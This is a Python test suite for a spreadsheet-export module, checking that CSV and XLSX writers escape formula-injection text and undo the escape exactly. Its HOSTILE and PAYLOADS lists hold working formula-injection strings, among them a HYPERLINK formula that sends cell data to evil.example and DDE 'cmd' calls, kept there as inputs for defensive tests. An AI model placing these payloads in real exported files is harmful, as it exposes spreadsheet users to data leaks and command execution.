"""Spreadsheet cells are data, never formulas, and the escape is undone exactly."""

from __future__ import annotations

import csv
import io
import re
import sys
import unicodedata
from decimal import Decimal

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from legalsim.spreadsheet import (
    FORMULA,
    SEPARATORS,
    TRIGGERS,
    CsvDictWriter,
    CsvWriter,
    cell_escape,
    cell_unescape,
    xlsx_append,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
# Text that starts with a quote and then a trigger: escaped with one more quote, so that
# unescaping (which strips exactly one) gives it back.
QUOTED = ["'=already quoted", "''@twice quoted"]
HARMLESS = ["", "plain", "it's fine", "'quoted'", "'", "''", "1-2", "a=b", "中文理由", "a, b; c\td"]
# A formula where a spreadsheet may start a cell: after a list separator (Excel splits a comma
# file at ";" where ";" is the separator), behind spaces, or with a full-width trigger.
PAYLOADS = [
    ";=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    "\u3000＝1+1",
    "﹦1+1",
    "a;=1+1",
    "a,=1+1",
    "a\t@SUM(A1)",
    '"=1+1"',
    'a;"=1+1',
    'ok;＝HYPERLINK("http://evil.example/?"&A1)',
    "x; +cmd|' /C calc'!A0",
    ";;-2+3",
    "line\n=1+1",
    "\t=1+1",
    "\r=1+1",
]

# Text made mostly of quotes, triggers and separators, where the edge cases are, and any text at all.
tricky_text = st.text(
    alphabet=st.sampled_from(["'", '"', *TRIGGERS, *SEPARATORS, "＝", "a", " ", "\u3000"]), max_size=8
)
any_text = st.one_of(tricky_text, st.text())


def reads_as_formula(cell: str) -> bool:
    """How a lenient spreadsheet sees a cell: leading spaces and double quotes dropped, and a
    full-width trigger taken for the ASCII one; a number such as ``-1`` is a number."""
    start = cell.lstrip().lstrip('"').lstrip()
    if re.fullmatch(r"-?[0-9]+", start):
        return False
    return unicodedata.normalize("NFKC", start[:1]).startswith(("=", "+", "-", "@"))


def fields(text: str) -> list[str]:
    """Every piece a spreadsheet may read as a cell, wherever it splits (any separator or line
    break) and whether or not it honours the CSV quotes."""
    return re.split(r"[,;\t\r\n]", text)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_gets_one_leading_quote(text):
    assert cell_escape(text) == "'" + text
    assert cell_unescape(cell_escape(text)) == text


@pytest.mark.parametrize("text", QUOTED)
def test_text_already_quoted_before_a_trigger_gets_one_more_quote(text):
    assert cell_escape(text) == "'" + text
    assert cell_unescape(cell_escape(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_and_read_as_it_is(text):
    assert cell_escape(text) == text and cell_unescape(text) == text


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        (";=1+1", ";'=1+1"),
        ("＝1+1", "'＝1+1"),
        (" =1+1", "' =1+1"),
        ("ok, +1", "ok,' +1"),
        ("line\n- point", "line\n'- point"),
        ("\t=1+1", "'\t'=1+1"),
    ],
)
def test_every_field_that_starts_a_formula_gets_its_own_quote(text, escaped):
    assert cell_escape(text) == escaped and cell_unescape(escaped) == text


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_field_of_an_escaped_payload_reads_as_a_formula(text):
    assert [field for field in fields(text) if reads_as_formula(field)], "the payload is one"
    assert not [field for field in fields(cell_escape(text)) if reads_as_formula(field)]
    assert cell_unescape(cell_escape(text)) == text


def test_the_formula_triggers_are_every_character_whose_compatibility_form_starts_with_one():
    found = {
        char
        for char in map(chr, range(sys.maxunicode + 1))
        if unicodedata.normalize("NFKC", char).startswith(("=", "+", "-", "@"))
    }
    assert found == set(FORMULA)


@pytest.mark.parametrize("number", [-1, -1.5, 0, 7, 2.5, np.float64(-0.25), np.int64(-3), Decimal("-1"), None, True])
def test_numbers_and_other_values_are_never_altered(number):
    assert cell_escape(number) is number and cell_unescape(number) is number


@given(any_text)
@example("'=")
@example("''")
@example("'")
def test_unescape_undoes_escape_exactly(text):
    assert cell_unescape(cell_escape(text)) == text


@given(any_text)
def test_an_escaped_cell_never_starts_with_a_trigger(text):
    assert not cell_escape(text).startswith(TRIGGERS)


@given(any_text)
@example(";=")
@example('a;"=')
def test_no_field_of_an_escaped_cell_reads_as_a_formula(text):
    assert not [field for field in fields(cell_escape(text)) if reads_as_formula(field)]


@given(any_text, any_text)
def test_different_texts_stay_different_once_escaped(first, second):
    if first != second:
        assert cell_escape(first) != cell_escape(second)


def test_both_csv_writers_escape_text_and_keep_numbers():
    plain = io.StringIO()
    CsvWriter(plain).writerows([["reason", "score"], *([text, -1] for text in HOSTILE)])
    keyed = io.StringIO()
    writer = CsvDictWriter(keyed, fieldnames=["reason", "score"])
    writer.writeheader()
    writer.writerows({"reason": text, "score": -1} for text in HOSTILE)
    for buffer in (plain, keyed):
        rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
        assert rows[0] == ["reason", "score"]
        assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
        assert {row[1] for row in rows[1:]} == {"-1"}


def test_xlsx_cells_are_stored_as_text_never_as_formulas():
    workbook = Workbook()
    xlsx_append(workbook.active, ["reason", "score", "error"])
    for text in [*HOSTILE, *QUOTED]:
        xlsx_append(workbook.active, [text, -1, "#N/A"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = [cell for row in load_workbook(buffer).active.iter_rows(min_row=2) for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type not in ("s", "n")]
    # XML reads a carriage return back as a line feed: the quote in front is what matters here
    assert [cell.value for cell in cells[::3]] == ["'" + text.replace("\r", "\n") for text in [*HOSTILE, *QUOTED]]
    assert {cell.value for cell in cells[1::3]} == {-1} and {cell.value for cell in cells[2::3]} == {"#N/A"}


def test_a_control_character_does_not_stop_an_xlsx_report():
    """A judge name or reason with a character XML cannot carry (\\x01) made openpyxl refuse
    the whole workbook; the character is replaced and the rest of the text kept."""
    workbook = Workbook()
    xlsx_append(workbook.active, ["judge\x01model", "=bad\x0b"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert [cell.value for cell in next(load_workbook(buffer).active.iter_rows())] == [
        "judge\ufffdmodel",
        "'=bad\ufffd",
    ]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_file_of_payloads_holds_no_formula_whatever_separator_the_reader_takes(delimiter):
    """Both writers; the file is read as a spreadsheet whose list separator is ``delimiter``
    would read it, and read back (comma, unescaped) as the text written."""
    plain = io.StringIO(newline="")
    CsvWriter(plain).writerows([["ann", text, -1] for text in PAYLOADS])
    keyed = io.StringIO(newline="")
    CsvDictWriter(keyed, fieldnames=["rater", "reason", "score"]).writerows(
        {"rater": "ann", "reason": text, "score": -1} for text in PAYLOADS
    )
    for buffer in (plain, keyed):
        seen = [
            cell for row in csv.reader(io.StringIO(buffer.getvalue(), newline=""), delimiter=delimiter) for cell in row
        ]
        assert not [cell for cell in seen if any(reads_as_formula(field) for field in fields(cell))]
        assert not [field for field in fields(buffer.getvalue()) if reads_as_formula(field)]
        rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
        assert [cell_unescape(row[1]) for row in rows] == PAYLOADS and {row[2] for row in rows} == {"-1"}


def test_xlsx_payloads_are_text_with_no_field_that_reads_as_a_formula():
    workbook = Workbook()
    for text in PAYLOADS:
        xlsx_append(workbook.active, [text])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = [row[0] for row in load_workbook(buffer).active.iter_rows()]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell.value for cell in cells if any(reads_as_formula(field) for field in fields(cell.value))]
    # XML reads a carriage return back as a line feed
    assert [cell.value for cell in cells] == [cell_escape(text).replace("\r", "\n") for text in PAYLOADS]
